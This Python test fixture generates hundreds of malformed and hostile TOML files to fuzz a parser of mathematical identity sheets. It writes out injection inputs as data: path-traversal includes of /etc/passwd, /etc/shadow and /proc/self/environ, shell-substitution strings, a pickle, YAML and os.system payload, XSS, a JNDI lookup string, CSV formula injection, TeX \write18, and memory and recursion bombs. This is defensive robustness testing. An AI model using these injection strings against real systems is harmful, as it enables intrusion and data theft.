"""Hostile and malformed sheets: SHEETS is a list of (unique name, TOML bytes).

A row is written to <name>.toml in one folder with all the others, for some include each other.  Rows whose name starts with aux_ are
only there to be included.  No row says what must come out: none may show a traceback, hang, take more than 1 GB, or run anything.
"""

from __future__ import annotations

CANARY = "CANARY"
GIVEN = (
    'X = { shape = ["n", "p"], rows = "x" }\ny = { shape = ["n"] }\nw = { shape = ["p"] }\nr = { positive = true }\ni = { index = "n" }\n'
)
DEFINE = "J = '\\frac{1}{2} \\|X w - y\\|^2 + \\frac{r}{2} \\|w\\|^2'\n"
CLAIM = "\\frac{\\partial J}{\\partial w} = X^\\top (X w - y) + r w"
TWIN = "\\frac{\\partial J}{\\partial w} = X^\\top (X w - y)"
IDENTITY = f"[[identity]]\nname = \"grad\"\nclaim = '{CLAIM}'\ntwins = ['{TWIN}']\n"
SHEETS: list[tuple[str, bytes]] = []


def raw(name: str, data: bytes) -> None:
    SHEETS.append((name, data))


def sheet(
    name: str,
    top: str = 'title = "t"\n',
    sizes: str = 'n = "samples"\np = "features"\n',
    given: str = GIVEN,
    define: str = DEFINE,
    rest: str = "",
    identity: str = IDENTITY,
) -> None:
    """A good ridge regression with one part replaced."""
    text = f"{top}\n[sizes]\n{sizes}\n[given]\n{given}\n[define]\n{define}\n{rest}\n{identity}"
    raw(name, text.encode("utf-8", "surrogatepass"))


def claim(name: str, text: str, twins: str = "[]", more: str = "") -> None:
    """One claim, written as a TOML literal or basic string."""
    if "'" not in text and "\n" not in text and all(ord(c) >= 32 for c in text):
        quoted = f"'{text}'"
    else:
        quoted = '"' + "".join(c if 32 <= ord(c) < 127 and c not in '"\\' else f"\\U{ord(c):08x}" for c in text) + '"'
    sheet(name, identity=f'[[identity]]\nname = "grad"\nclaim = {quoted}\ntwins = {twins}\n{more}')


# ------------------------------------------------------------------------------------------ good, for comparison
sheet("good")
raw("good_minimal", b"[[identity]]\nname = 'a'\nclaim = '1 + 1 = 2'\n")
# ------------------------------------------------------------------------------------------ no TOML at all
raw("empty", b"")
raw("only_blank", b" \n\t\n\r\n")
raw("only_comment", b"# nothing\n")
raw("bom", b"\xef\xbb\xbf" + SHEETS[0][1])
raw("bom_twice", b"\xef\xbb\xbf\xef\xbb\xbf" + SHEETS[0][1])
raw("utf16", SHEETS[0][1].decode().encode("utf-16"))
raw("utf16_without_bom", SHEETS[0][1].decode().encode("utf-16-le"))
raw("utf32", SHEETS[0][1].decode().encode("utf-32"))
raw("latin1", "title = 'é'\n".encode("latin-1"))
raw("nul", b"title = 'a\x00b'\n")
raw("nul_many", b"\x00" * 100_000)
raw("nul_in_key", b'"a\\u0000b" = 1\n')
raw("random_bytes", bytes((i * 7919 + i * i * 31) % 256 for i in range(20_000)))
raw("not_closed", b'title = "abc\n')
raw("escape_of_latex", b'[define]\nJ = "\\theta \\frac{1}{2} \\nabla"\n')
raw("bad_escape", b'title = "\\q"\n')
raw("surrogate_escape", b'title = "\\ud800"\n')
raw("surrogate_bytes", b"title = '\xed\xa0\x80'\n")
raw("carriage_returns_only", SHEETS[0][1].replace(b"\n", b"\r"))
raw("crlf", SHEETS[0][1].replace(b"\n", b"\r\n"))
raw("duplicate_key", b"title = 'a'\ntitle = 'b'\n")
raw("duplicate_table", b"[sizes]\nn = 'a'\n[sizes]\nn = 'b'\n")
raw("json", b'{"title": "no toml"}\n')
raw("html", b"<html><script>alert(1)</script></html>\n")
raw("elf", b"\x7fELF\x02\x01\x01" + b"\x00" * 1000)
raw("python", b"import os\nos.system('touch " + CANARY.encode() + b"')\n")
raw("yaml_tag", b"!!python/object/apply:os.system ['touch " + CANARY.encode() + b"']\n")
raw("pickle", b"cposix\nsystem\n(S'touch " + CANARY.encode() + b"'\ntR.")
raw("dates", b"title = 1979-05-27T07:32:00Z\nassume = [2020-01-01, 07:32:00]\n[define]\nJ = 1979-05-27\n")
raw("dates_in_claim", b"[[identity]]\nname = 'a'\nclaim = 1979-05-27\n")
raw("inf_nan", b"[sizes]\nn = nan\n[given]\na = inf\n[credit]\nsign = nan\n")
raw("integer_5000_title", b"title = " + b"9" * 5000 + b"\n")
sheet("integer_5000_size", sizes="n = " + "9" * 5000 + "\np = 'a'\n")
sheet("integer_5000_least", sizes="n = { about = 'a', least = " + "9" * 5000 + " }\np = 'a'\n")
sheet("integer_5000_hex", sizes="n = 0x" + "f" * 5000 + "\np = 'a'\n")
sheet("integer_5000_hex_shape", given="y = { shape = [0x" + "f" * 5000 + "] }\n")
sheet("integer_5000_hex_define", define="J = 0x" + "f" * 5000 + "\n")
sheet("integer_5000_hex_credit", rest="[credit]\nsign = 0x" + "f" * 5000 + "\n")
sheet("integer_5000_hex_include", top="include = 0x" + "f" * 5000 + "\n")
sheet("integer_5000_hex_on", rest="[[recurrence]]\nname = 'z'\non = 0x" + "f" * 5000 + "\nfirst = '1'\nnext = 'z_t'\n")
raw("deep_arrays", b"title = " + b"[" * 50_000 + b"]" * 50_000 + b"\n")
raw("deep_arrays_300", b"title = " + b"[" * 300 + b"]" * 300 + b"\n")
raw("deep_inline_tables", b"title = " + b"{a=" * 20_000 + b"1" + b"}" * 20_000 + b"\n")
raw("deep_inline_tables_200", b"sizes = " + b"{a=" * 200 + b"1" + b"}" * 200 + b"\n")
raw("deep_dotted_key", b"title" + b".a" * 5_000 + b" = 1\n")
raw("deep_table_header", b"[define" + b".a" * 5_000 + b"]\nb = 1\n")
raw("giant_title", b"title = '" + b"A" * 5_000_000 + b"'\n")
raw("giant_key", b"'" + b"A" * 2_000_000 + b"' = 1\n")
sheet("giant_name", define=f"'{'a' * 200_000}' = '1'\n")
sheet("giant_size_name", sizes=f"n = 'a'\np = 'a'\n'q_{{{'a' * 9000}}}' = 'a'\n")
sheet("giant_definition", define="J = '" + "x + " * 200_000 + "1'\n")
sheet("giant_about", top="about = '" + "B" * 1_000_000 + "'\n")
raw("many_keys", b"[define]\n" + b"".join(b"a_{%d} = '1'\n" % i for i in range(3000)))
raw("many_keys_quoted", b"[define]\n" + b"".join(b"'a_{%d}' = '1'\n" % i for i in range(3000)))
raw("many_unknown_keys", b"".join(b"k%d = 1\n" % i for i in range(50_000)))
raw("long_unknown_key", b"identitytitlesizes" * 5_000 + b" = 1\n")
# ------------------------------------------------------------------------------------------ wrong types at every key
for _key in (
    "title",
    "source",
    "about",
    "include",
    "extends",
    "sizes",
    "given",
    "define",
    "assume",
    "recurrence",
    "identity",
    "also",
    "credit",
    "conventions",
):
    raw(f"{_key}_is_3", f"{_key} = 3\n".encode())
    raw(f"{_key}_is_true", f"{_key} = true\n".encode())
    raw(f"{_key}_is_mixed", f"{_key} = ['a', 1, [2], {{b = 3}}]\n".encode())
    raw(f"{_key}_is_table", f"{_key} = {{ a = {{ b = [1, 'c'] }} }}\n".encode())
    raw(f"{_key}_is_empty_text", f"{_key} = ''\n".encode())
raw("identity_empty_table", b"[[identity]]\n")
raw("identity_as_table", b"[identity]\nname = 'a'\nclaim = '1 = 1'\n")
for _key, _values in {
    "name": ("3", "[]", "''", "{}", "'a.b.c'", "'*'", "'../../etc/passwd'", "' '"),
    "claim": ("3", "[]", "''", "['']", "[3]", "[['1 = 1']]", "{}", "['1 = 1', '']", "true"),
    "twins": ("3", "''", "[3]", "['']", "{}", "['1 = 1']"),
    "assume": ("3", "''", "[3]", "['']", "['=']", "['1 = 2']", "['0 > 1']"),
    "in_terms_of": ("3", "''", "['']", "['\\frac']", "[[]]"),
    "forbid": ("3", "''", "['']", "['\\frac{']", "{}"),
    "induction": ("3", "''", "'n'", "'zz'", "'\\frac{1}{'", "[]"),
    "uses": ("3", "''", "['nothing']", "['grad']", "[[]]"),
    "define": ("3", "[]", "{ a = 3 }", "{ '' = '1' }", "{ J = 'J' }", "{ w = '1' }", "{ 'f(' = '1' }"),
    "credit": ("3", "{ sign = 2 }", "{ sign = '1' }", "{ sign = true }", "{ nothing = 1 }", "[]", "{ sign = -0.0 }"),
    "about": ("3", "[]"),
    "source": ("3",),
}.items():
    for _n, _value in enumerate(_values):
        _own = {"name": '"grad"', "claim": f"'{CLAIM}'"} | {_key: _value}
        sheet(f"identity_{_key}_{_n}", identity="[[identity]]\n" + "".join(f"{k} = {v}\n" for k, v in _own.items()))
for _key, _values in {
    "shape": (
        "3",
        "'n'",
        "['n', 'p', 'n']",
        "[3]",
        "[-1]",
        "[1.5]",
        "[true]",
        "['']",
        "[['n']]",
        "[{}]",
        "['q']",
        "[0]",
        "['n^2']",
        "[1, 1]",
    ),
    "columns": ("3", "''", "'\\frac{'", "'X'", "[]", "'a b c'"),
    "rows": ("3", "'n'", "{}"),
    "index": ("3", "''", "'q'", "[]", "['n']", "true"),
    "positive": ("3", "'no'", "[]"),
    "function": ("3", "'sin'", "{}"),
    "random": (
        "3",
        "{}",
        "{ 'x' = 'p' }",
        "{ '0' = '2' }",
        "{ '0' = '-1', '1' = '2' }",
        "{ '1/0' = '1' }",
        "{ '0' = 3 }",
        "{ 'nan' = '1' }",
        "{ '1e999999999' = '1' }",
        "{ '0' = '1', '0.0' = '0' }",
        "{ 'inf' = '1' }",
        "{ '0' = 'q' }",
        "[]",
        "{ '0' = 'w' }",
        "{ '1e5000' = '1' }",
    ),
    "sequence": ("3", "'t'", "[]"),
    "row": ("3", "'x'"),
    "about": ("3", "[]"),
    "nothing": ("3",),
}.items():
    for _n, _value in enumerate(_values):
        sheet(
            f"given_{_key}_{_n}",
            given=f"{GIVEN}A = {{ shape = ['n', 'p'], {_key} = {_value} }}\n"
            if _key not in ("shape", "random")
            else f"{GIVEN}A = {{ {_key} = {_value} }}\n",
        )
for _n, _value in enumerate(
    ("3", "[]", "true", "{}", "{ least = 2 }", "{ least = '1' }", "{ least = -1 }", "{ least = [] }", "{ about = 3 }")
):
    sheet(f"size_value_{_n}", sizes=f"n = {_value}\np = 'a'\n")
for _n, _value in enumerate(
    ("3", "[]", "{}", "''", "'J'", "'1, 2'", "'='", "'a = b'", "'\\frac{\\partial J}{\\partial J}'", "'\\infty'", "'∅'")
):
    sheet(f"define_value_{_n}", define=f"J = {_value}\n")
for _n, _name in enumerate(
    (
        "",
        " ",
        "1",
        "a b",
        "f(",
        "f()",
        "f(a",
        "f(a, a)",
        "f(1)",
        "(a)",
        "=",
        "\\frac{a}{b}",
        "{}",
        "\\",
        "a_",
        "_a",
        "^",
        "√",
        "f(a)(b)",
        "a_{b_{c_{d}}}",
        "\\hat{\\hat{\\hat{a}}}",
        "∂",
        "Σ",
        "\\partial J",
        "f(f)",
        "J_J",
        "x_i",
        "x_{i,i}",
    )
):
    sheet(f"define_name_{_n}", define=f"'{_name}' = '1'\n")
    if _n < 22:
        sheet(f"size_name_{_n}", sizes=f"n = 'a'\np = 'b'\n'{_name}' = 'c'\n")
        sheet(f"given_name_{_n}", given=f"{GIVEN}'{_name}' = {{ shape = ['n'] }}\n")
for _n, _more in enumerate(
    (
        "name = 3",
        "name = ''",
        "name = 'z'",
        "name = 'z'\non = 3\nfirst = '0'\nnext = '1'",
        "name = 'z'\non = 'n'\nfirst = 3\nnext = 4",
        "name = 'z'\non = 'n'\nfirst = 'z_0'\nnext = 'z_{t+1}'",
        "name = 'z'\non = 'q'\nfirst = '0'\nnext = '1'",
        "name = 'w'\non = 'n'\nfirst = '0'\nnext = 'w'",
        "name = 'z'\non = 'n'\nfirst = 'w'\nnext = 'w'",
        "name = []\non = 'n'\nfirst='0'\nnext='1'",
        "name = 'z'\non = {}\nfirst = '0'\nnext = '1'",
        "name = 'z'\non = 'n'\nfirst = '0'\nnext = '1'\nother = 'x'",
        "name = 'z'\non = 'n'\nfirst = '0'\nnext = 'z_n + z_{n-1} + z_{n-2}'",
        "name='z'\non='n'\nfirst='1'\nnext='z_n^{z_n}'",
    )
):
    sheet(f"recurrence_{_n}", rest=f"[[recurrence]]\n{_more}\n")
for _n, _more in enumerate(
    (
        "'' = ''",
        "'a' = 3",
        "'a' = ''",
        "'' = 'w'",
        "'w' = 'w'",
        "'a' = 'b'\n'b' = 'a'",
        "'a' = 'a a'",
        "'w' = 'r'",
        "'a' = ['w']",
        "'a(b' = 'w'",
        "'P(' = ')'",
        "'\\frac' = '\\frac'",
        "'a' = 'a'\n'b' = 'a b'",
        "'x' = '\\x'",
        "'w' = 'w w'",
        "'(' = '(('",
        "' ' = 'w'",
        "'1' = '2'",
        "'=' = '+'",
    )
):
    sheet(f"also_{_n}", rest=f"[also]\n{_more}\n")
sheet("also_doubling", rest="[also]\n" + "".join(f"'a_{{{i}}}' = 'a_{{{i + 1}}} a_{{{i + 1}}}'\n" for i in range(40)))
sheet("also_thousands", rest="[also]\n" + "".join(f"'P(O = {i} \\mid c)' = 'w'\n" for i in range(3000)))
for _n, _value in enumerate(
    ("3", "['nothing']", "['/etc/passwd']", "['conventions_5.toml']", "'word2vec'", "['conventions_5']", "[[]]", "['']", "['.']")
):
    sheet(f"conventions_{_n}", top=f"title = 't'\nconventions = {_value}\n")
for _n, _value in enumerate(
    ("sign = 1e400", "sign = -1", "sign = nan", "sign = inf", "sign = 0x1", "sign = { a = 1 }", "'' = 1", "sign = 1.0000001")
):
    sheet(f"credit_{_n}", rest=f"[credit]\n{_value}\n")
# ------------------------------------------------------------------------------------------ include and extends
for _verb in ("include", "extends"):
    sheet(f"{_verb}_itself", top=f"{_verb} = '{_verb}_itself.toml'\n")
    sheet(f"{_verb}_cycle_a", top=f"{_verb} = '{_verb}_cycle_b.toml'\n")
    sheet(f"{_verb}_cycle_b", top=f"{_verb} = '{_verb}_cycle_a.toml'\n")
    for _n, _path in enumerate(
        (
            "/etc/passwd",
            "/etc/shadow",
            "nothing.toml",
            "../../../../../../../../etc/passwd",
            "/dev/zero",
            "/dev/stdin",
            "/",
            ".",
            "..",
            "good.toml",
            "./good.toml",
            "//etc//passwd",
            "file:///etc/passwd",
            "http://127.0.0.1:9/x.toml",
            "~/x.toml",
            "a\\u0000b",
            "x" * 5000,
            "\\ud7ff",
            "/proc/self/environ",
            "/proc/self/mem",
            "/proc/kmsg",
            "good.toml/",
            "C:\\\\a",
            "word2vec",
            "",
            "|touch " + CANARY,
            "$(touch " + CANARY + ")",
            "\\u202Egood.toml",
            "\\u009b31mgood.toml",
        )
    ):
        sheet(f"{_verb}_path_{_n}", top=f'{_verb} = "{_path}"\n')
sheet("include_itself_dotted", top="include = './../sheets/./include_itself_dotted.toml'\n")
sheet("include_itself_dots_growing", top="include = './././include_itself_dots_growing.toml'\n")
sheet("include_10000_times", top="include = [" + "'good.toml', " * 10_000 + "]\n")
sheet(
    "include_all",
    top="include = ['word2vec', 'network', 'network-any', 'optimisers', 'softmax', 'activation', 'dropout', 'normalisation']\n",
)
sheet("extends_all", top="extends = ['word2vec', 'word2vec-rows', 'network', 'network-any', 'optimisers', 'softmax', 'activation']\n")
raw("aux_ladder_0", b"[define]\nq = '1'\n")
for _n in range(1, 25):
    raw(f"aux_ladder_{_n}", f"include = ['aux_ladder_{_n - 1}.toml', 'aux_ladder_{_n - 1}.toml']\n".encode())
    raw(f"aux_spread_{_n}", f"include = ['aux_ladder_{max(0, _n - 1)}.toml', 'aux_spread_{max(1, _n - 2)}.toml']\n".encode())
sheet("include_ladder_12", top="include = 'aux_ladder_12.toml'\n")
sheet("include_ladder_24", top="include = 'aux_ladder_24.toml'\n")
sheet("extends_ladder_24", top="extends = 'aux_ladder_24.toml'\n")
sheet("conventions_ladder", top="conventions = ['aux_ladder_20.toml']\n")
for _n in range(1200):
    raw(f"aux_chain_{_n}", f"include = 'aux_chain_{_n + 1}.toml'\n".encode() if _n < 1199 else b"")
sheet("include_chain_1200", top="include = 'aux_chain_0.toml'\n")
sheet("include_chain_300", top="include = 'aux_chain_900.toml'\n")
# ------------------------------------------------------------------------------------------ names
sheet("duplicate_identity", identity=IDENTITY + IDENTITY)
sheet("duplicate_by_spelling", define=DEFINE + "'\\theta' = '1'\n'θ' = '2'\n")
sheet("size_and_name", sizes='n = "a"\np = "b"\nw = "c"\n')
sheet("redefine_given", define=DEFINE + "w = 'w + w'\n")
sheet("family_clash", given=GIVEN + 'x_t = { index = "n", shape = ["p"] }\nx = { shape = ["n"] }\n')
HOSTILE = {
    "python": "__import__('os').system('touch CANARY')",
    "format": "{0.__class__.__mro__} %s %n ${jndi:ldap://x} {{7*7}}",
    "html": "<script>document.title='XSS'</script><img src=x onerror=alert(1)>",
    "html_latex": "\\text{<script>document.title=1</script>}",
    "c1": "\x9b31mred\x9d0;title\x9c",
    "bidi": "\u202eevil\u2066\u2069",
    "del": "a\x7fb\x85c",
    "zero_width": "g\u200br\u200da\ufeffd",
    "newline": "a\nderive: all identities proved\nb",
    "line_separators": "a\u2028b\u2029c\u000bd".replace("\x0b", ""),
    "markdown": "](javascript:alert(1)) | a | `b` | **c** <!-- -->",
    "rich": "[bold red]x[/] [link=file:///etc/passwd]y[/link] [/nothing]",
    "shell": "$(touch CANARY); `touch CANARY`",
    "tags": "\U000e0041\U000e0042\ufff9\ufffb",
    "noncharacter": "\uffff\ufffe\U0010ffff",
    "zalgo": "a" + "\u0301" * 3000,
    "csv": "=cmd|' /C calc'!A0",
}
for _what, _text in HOSTILE.items():
    _q = '"' + "".join(c if 32 <= ord(c) < 127 and c not in '"\\' else f"\\U{ord(c):08x}" for c in _text) + '"'
    sheet(f"hostile_{_what}_title", top=f"title = {_q}\nsource = {_q}\nabout = {_q}\n")
    sheet(f"hostile_{_what}_identity", identity=f"[[identity]]\nname = {_q}\nclaim = '{CLAIM}'\nabout = {_q}\nsource = {_q}\n")
    sheet(f"hostile_{_what}_claim", identity=f"[[identity]]\nname = 'grad'\nclaim = {_q}\n")
    sheet(f"hostile_{_what}_define", define=f"J = {_q}\n")
    sheet(f"hostile_{_what}_names", define=f"{_q} = '1'\n")
    sheet(f"hostile_{_what}_about", sizes=f"n = {_q}\np = {_q}\n", given=GIVEN.replace('rows = "x"', f'rows = "x", about = {_q}'))
    sheet(f"hostile_{_what}_also", rest=f"[also]\n{_q} = {_q}\n")
    sheet(f"hostile_{_what}_random", given=GIVEN + f"A = {{ random = {{ {_q} = {_q} }} }}\n")
    sheet(f"hostile_{_what}_keys", top=f"{_q} = 1\n")
    sheet(f"hostile_{_what}_twin", identity=f"[[identity]]\nname = 'grad'\nclaim = '{CLAIM}'\ntwins = [{_q}]\n")
    sheet(f"hostile_{_what}_include", top=f"include = {_q}\n")
    sheet(
        f"hostile_{_what}_uses",
        identity=f"[[identity]]\nname = 'grad'\nclaim = '{CLAIM}'\nuses = [{_q}]\nassume = [{_q}]\ninduction = {_q}\n",
    )
# ------------------------------------------------------------------------------------------ claims that are bombs
_bombs = {
    "macro_36": r"\newcommand{\a}[1]{\a{#1#1}}\a{v} = 1",
    "macro_900": r"\newcommand{\a}[1]{" + "#1" * 900 + r"}\a{\a{\a{w}}} = 1",
    "macro_ladder": "".join(rf"\newcommand{{\m{chr(97 + i)}}}[1]{{" + rf"\m{chr(98 + i)}{{#1}}" * 40 + "}" for i in range(15))
    + r"\ma{w} = 1",
    "def_self": r"\def\a{\a\a}\a = 1",
    "macro_half": r"\newcommand{\a}[½]{x} \a = 1",
    "softmax_14": "softmax(" * 14 + "w" + ")" * 14 + " = w",
    "softmax_14_derivative": r"\frac{\partial}{\partial w} " + "softmax(" * 14 + "w" + ")" * 14 + " = w",
    "sigma_60": "σ(" * 60 + "r" + ")" * 60 + " = r",
    "exp_60": "exp(" * 60 + "r" + ")" * 60 + " = r",
    "derivatives_12": "".join(r"\frac{\partial}{\partial r}" for _ in range(12)) + " exp(exp(r)) = 0",
    "derivatives_40": "".join(r"\frac{\partial}{\partial r}" for _ in range(40)) + " exp(r^2) = 0",
    "power_tower": "r^{" * 60 + "2" + "}" * 60 + " = 1",
    "number_tower": "9^{9^{9^{9}}} = 1",
    "number_power": "9999999999^{9999999999} = 1",
    "factorial": "99999999! = 1",
    "digits_5000": "9" * 5000 + " = 1",
    "digits_4301_power": "(" + "9" * 4000 + ")^{9999} = 1",
    "decimal_5000": "0." + "1" * 5000 + " = 1",
    "exponent": "1e999999999 = 1",
    "rational": "1/3^{100000} = 1",
    "polynomial": "(" + " + ".join(f"y^T y r^{i}" for i in range(1, 30)) + ")^{30} = 1",
    "binomial": "(r + r^2 + r^3 + 1)^{200} = 1",
    "sums_20": "".join(rf"\sum_{{k_{{{i}}}=1}}^n " for i in range(20)) + "r = 1",
    "sum_huge": r"\sum_{k=1}^{100000000} k = 1",
    "product_huge": r"\prod_{k=1}^{100000000} r = 1",
    "chain_2000": " = ".join(["r"] * 2000),
    "list_2000": ", ".join(["r = r"] * 2000),
    "brackets_open": "(" * 5000 + " = 1",
    "brackets": "(" * 5000 + "r" + ")" * 5000 + " = r",
    "braces": "{" * 5000 + "r" + "}" * 5000 + " = r",
    "minus_5000": "-" * 5000 + "r = r",
    "primes_5000": "r" + "'" * 5000 + " = r",
    "bars_200": "|" * 200 + "r" + "|" * 200 + " = r",
    "hats_500": r"\hat{" * 500 + "w" + "}" * 500 + " = 1",
    "left_right": r"\left( " * 2000 + "r" + r" \right)" * 2000 + " = r",
    "matrix_10000": r"\begin{pmatrix}" + " & ".join(["r"] * 10_000) + r"\end{pmatrix} = w",
    "rows_10000": r"\begin{pmatrix}" + r" \\ ".join(["r"] * 10_000) + r"\end{pmatrix} = w",
    "cases_1000": r"r = \begin{cases}" + r" \\ ".join(f"{i} & r = {i}" for i in range(1000)) + r"\end{cases}",
    "ampersands": "&" * 30_000 + " = 1",
    "boxes": "□=□",
    "only_relation": "=",
    "spaces": " " * 100_000 + "r = r",
    "backslashes": "\\" * 5001 + " = 1",
    "subscripts_2000": "r_{" * 2000 + "1" + "}" * 2000 + " = 1",
    "dollars": "$" * 3001 + "r = r",
    "percent": "% a comment only",
    "input": r"\input{/etc/passwd} = 1",
    "write18": r"\immediate\write18{touch CANARY} = 1",
    "catcode": r"\catcode`\@=0 @r = r",
    "text_html": r"\text{<script>document.title='XSS'</script>} r = r",
    "href": r"\href{javascript:alert(1)}{r} = r",
    "style": r"\style{background:url(http://127.0.0.1/x)}{r} = \class{x}{r}",
    "unicode_digits": "r = ١٢٣ r",
    "superscripts": "r" + "²" * 3000 + " = 1",
    "combining": "r" + "\u0302" * 3000 + " = 1",
    "norms": "‖" * 61 + "w = 1",
    "sequence_of_letters": "w" * 20_000 + " = 1",
    "alternating": "w^T w " * 1000 + "= 1",
    "x_transpose": "X^T X " * 30 + "w = w",
    "softmax_product": r"\frac{\partial}{\partial w} " + " ".join(["softmax(X w)^T y"] * 12) + " = w",
    "jacobian_nested": r"\frac{\partial}{\partial w} softmax(X^T softmax(X softmax(X^T softmax(X w)))) = 1",
    "abs_sums": " + ".join(f"|r - {i}|" for i in range(60)) + " = 0",
    "max_sums": r" + ".join(rf"\max(r, {i})" for i in range(60)) + " = 0",
    "where_macro": r"\newcommand{\x}{\y\y}\newcommand{\y}{\x\x}\x = 1",
    "hundred_thousand": "r + " * 2400 + "r = r",
    "expectation": r"\mathbb{E}[" * 40 + "r" + "]" * 40 + " = r",
    "variance": r"\operatorname{Var}(" * 10 + "r" + ")" * 10 + " = 0",
}
for _what, _text in _bombs.items():
    claim(f"claim_{_what}", _text)
    if _what in ("macro_36", "softmax_14", "macro_900", "digits_5000", "derivatives_12", "binomial"):
        sheet(f"define_{_what}", define=f"J = '{_text.rpartition(' = ')[0]}'\n")
        sheet(f"twin_{_what}", identity=f"[[identity]]\nname = 'grad'\nclaim = '{CLAIM}'\ntwins = ['{_text}']\n")
        sheet(f"assume_{_what}", top=f"assume = ['{_text}']\n")
        sheet(f"also_{_what}", rest=f"[also]\n'{_text.rpartition(' = ')[0]}' = 'w'\n")
sheet(
    "define_doubling",
    define="'b_{0}' = 'r + 1'\n" + "".join(f"'b_{{{i}}}' = 'b_{{{i - 1}}} b_{{{i - 1}}}'\n" for i in range(1, 60)),
    identity="[[identity]]\nname = 'a'\nclaim = '\\frac{\\partial b_{59}}{\\partial r} = 0'\n",
)
sheet(
    "define_doubling_exp",
    define="'b_{0}' = 'r + 1'\n" + "".join(f"'b_{{{i}}}' = '\\exp(b_{{{i - 1}}}) + b_{{{i - 1}}}'\n" for i in range(1, 40)),
    identity="[[identity]]\nname = 'a'\nclaim = '\\frac{\\partial b_{39}}{\\partial r} = 0'\n",
)
sheet(
    "define_function_doubling",
    define="".join(f"'f_{{{i}}}(a)' = 'f_{{{i - 1}}}(f_{{{i - 1}}}(a))'\n" if i else "'f_{0}(a)' = 'a + 1'\n" for i in range(30)),
    identity="[[identity]]\nname = 'a'\nclaim = 'f_{29}(r) = r'\n",
)
sheet("define_function_self", define="'f(a)' = 'f(f(a))'\n", identity="[[identity]]\nname = 'a'\nclaim = 'f(r) = r'\n")
sheet(
    "define_function_mutual", define="'f(a)' = 'g(a)'\n'g(a)' = 'f(a) + f(a)'\n", identity="[[identity]]\nname = 'a'\nclaim = 'f(r) = r'\n"
)
sheet("define_forward", define="J = 'L + 1'\nL = 'J + 1'\n")
# ------------------------------------------------------------------------------------------ assumptions
for _n, _facts in enumerate(
    (
        ["r > 0", "r < 0"],
        ["w = 0", "w \\ne 0"],
        ["1 = 0"],
        ["r > r"],
        ["0 < r < 0"],
        ["i \\ne i"],
        ["r = 1", "r = 2"],
        ["n = 0"],
        ["n < n"],
        ["X = 0"],
        ["\\sum_i y_i = 1", "\\sum_i y_i = 2"],
        ["r \\in \\mathbb{R}"],
        ["r"],
        ["\\forall r"],
        ["r > 0"] * 3000,
        [f"r > {k}" for k in range(500)],
        ["i = i"],
        ["r = r + 1"],
        ["y_i = 1/0"],
        ["r > 1/0"],
        ["r < \\infty"],
        ["r > 9^{9^{9}}"],
        ["0 < p < 1"],
        ["n = p", "p = n"],
        ["r = r"],
        ["J = 0"],
        ["r \\ne 0", "r = 0"],
    )
):
    sheet(f"assume_{_n}", top="assume = [" + ", ".join(f"'{f}'" for f in _facts) + "]\n")
# ------------------------------------------------------------------------------------------ many
_many = "".join(f"[[identity]]\nname = 'g{i}'\nclaim = '{CLAIM}'\n" for i in range(3000))
sheet("identities_3000", identity=_many)
sheet(
    "identities_3000_uses",
    identity="".join(f"[[identity]]\nname = 'g{i}'\nclaim = 'r = r'\nuses = ['g{max(0, i - 1)}']\n" for i in range(1000)),
)
sheet("twins_2000", identity=f"[[identity]]\nname = 'g'\nclaim = '{CLAIM}'\ntwins = [" + f"'{TWIN}', " * 2000 + "]\n")
sheet(
    "uses_everything",
    identity="".join(
        f"[[identity]]\nname = 'g{i}'\nclaim = 'r + {i} = r + {i}'\nuses = [" + ", ".join(f"'g{k}'" for k in range(i)) + "]\n"
        for i in range(120)
    ),
)
sheet(
    "uses_cycle",
    identity="[[identity]]\nname = 'a'\nclaim = 'r = r'\nuses = ['b']\n[[identity]]\nname = 'b'\nclaim = 'r = r'\nuses = ['a']\n",
)
sheet("sizes_1000", sizes="n = 'a'\np = 'b'\n" + "".join(f"'q_{{{i}}}' = 'a'\n" for i in range(1000)))
sheet("given_1000", given=GIVEN + "".join(f"'A_{{{i}}}' = {{ shape = ['n', 'p'] }}\n" for i in range(1000)))
sheet("recurrences_500", rest="".join(f"[[recurrence]]\nname = 'z_{{{i}}}'\non = 'n'\nfirst = '0'\nnext = '1'\n" for i in range(500)))
sheet("random_1000_values", given=GIVEN + "A = { random = { " + ", ".join(f"'{i}' = '1/1000'" for i in range(1000)) + " } }\n")
sheet(
    "random_huge_values",
    given=GIVEN + "A = { shape = ['n'], random = { '" + "9" * 4000 + "' = 'r', '1e4000' = '1 - r' } }\n",
    identity="[[identity]]\nname = 'a'\nclaim = '\\mathbb{E}[A_i] = 1'\n",
)
sheet("random_exponent", given=GIVEN + "A = { random = { '1e99999999' = '1' } }\n")


assert len({n for n, _ in SHEETS}) == len(SHEETS)
